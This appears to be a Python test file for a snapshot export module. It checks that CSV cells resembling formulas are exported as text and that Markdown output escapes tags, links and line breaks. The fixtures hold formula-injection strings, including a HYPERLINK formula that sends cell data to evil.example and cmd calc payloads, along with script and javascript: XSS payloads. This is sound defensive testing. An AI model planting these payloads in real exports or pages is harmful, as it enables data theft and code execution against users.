"""Exports hand a spreadsheet or a Markdown viewer text, never something it would run: CSV
cells that read as formulas gain a leading ', Markdown shows tags, links and line breaks
from people's text as plain characters."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime, timedelta

from neo4j import AsyncManagedTransaction

from graph import entities, evidence, propositions
from graph.kit.connection import Database
from graph.snapshots import store as snapshots
from graph.snapshots.export import export
from graph.snapshots.export.markdown import render as markdown
from graph.snapshots.export.tables import _figure_rows, _line
from schema.models import (
    Actor,
    BearingCreate,
    EntityCreate,
    EvidenceCreate,
    PropositionCreate,
)
from schema.snapshots import SnapshotInfo
from schema.vocabulary import EntityKind, Relation, Stance
from tests.graph.snapshots.factories import no_figures

FORMULAS = (
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
)


async def _export(db: Database, snapshot_id: str, fmt: str, table: str | None = None) -> str:
    return b"".join([p async for p in export(db, snapshot_id, fmt, table=table)]).decode()


async def test_csv_cells_that_read_as_formulas_are_exported_as_text(db: Database) -> None:
    now = datetime.now(UTC) - timedelta(seconds=1)
    actor = Actor(member_id="mem-a", name="A", function="product", role="admin")

    async def build(tx: AsyncManagedTransaction) -> None:
        segment, _ = await entities.create(
            tx, actor, EntityCreate(kind=EntityKind.SEGMENT, name="Ops"), now
        )
        for n, text in enumerate(FORMULAS):
            pain, _ = await entities.create(
                tx, actor, EntityCreate(kind=EntityKind.PAIN, name=text), now
            )
            prop, _ = await propositions.create(
                tx,
                actor,
                PropositionCreate(
                    subject_id=segment.id, relation=Relation.EXPERIENCES, object_id=pain.id
                ),
                now,
            )
            bears = [BearingCreate(proposition_id=prop.id, stance=Stance.SUPPORTS)]
            item = EvidenceCreate(
                source_type="survey", summary=text, source_ref=f"ref-{n}", bears=bears
            )
            await evidence.add(tx, actor, [item], now)

    await db.write(build)
    info, _ = await snapshots.create(db, Actor.system(), no_figures, label="=1+1")
    # Names lose their leading tab or carriage return when they are made; quotes keep them.
    for table, column, written in (
        ("entities", "name", [text.strip() for text in FORMULAS]),
        ("evidence", "summary", list(FORMULAS)),
    ):
        rows = list(
            csv.DictReader(io.StringIO(await _export(db, info.id, "csv", table), newline=""))
        )
        found = sorted(r[column] for r in rows if r[column] != "Ops")
        assert found == sorted("'" + text for text in written), table
    history = list(csv.DictReader(io.StringIO(await _export(db, info.id, "csv", "history"))))
    assert history[-1]["label"] == "'=1+1"


def test_numbers_the_product_wrote_stay_numbers() -> None:
    figures = {"gaps_by_function": [{"function": "sales", "mean_gap": -0.43, "mean_abs_gap": 0.5}]}
    [header, row] = [_line(r) for r in _figure_rows("gaps_by_function", figures)]
    assert row.split(",")[-1] == "-0.43\r\n"
    assert _line(["-0.43", -0.43, 0, None]) == "'-0.43,-0.43,0,\r\n"


def test_markdown_shows_tags_links_and_line_breaks_as_text() -> None:
    at = datetime(2026, 5, 1, tzinfo=UTC)
    info = SnapshotInfo(
        id="snap-1",
        label="Q3\n# Injected heading\n<img src=x onerror=alert(1)>",
        as_of=at,
        created_at=at,
        created_by="system",
        fingerprint="f" * 64,
        schema_version=1,
    )
    figures = {
        "structural_gaps": [
            {
                "owners": ["product"],
                "explanation": "[click](javascript:alert(1)) <script>alert(2)</script>",
            }
        ],
        "history": [
            {
                "id": "snap-0",
                "label": "a | b\nc",
                "as_of": at.isoformat(),
                "alpha": 0.5,
                "mean_abs_difference": 0.1,
            }
        ],
    }
    text = "".join(markdown(info, figures, quotes=True))
    lines = text.splitlines()
    assert lines[0] == (
        r"# Alignment snapshot: Q3 \# Injected heading \<img src=x onerror=alert(1)\>"
    )
    assert "\\[click\\](javascript:alert(1)) \\<script\\>alert(2)\\</script\\>" in text
    assert "<img" not in text.replace("\\<img", "") and "<script" not in text.replace(
        "\\<script", ""
    )
    assert "](javascript:" not in text.replace("\\](javascript:", "")
    assert not any(line.startswith("# Injected") for line in lines)
    assert "| a \\| b c |" in text
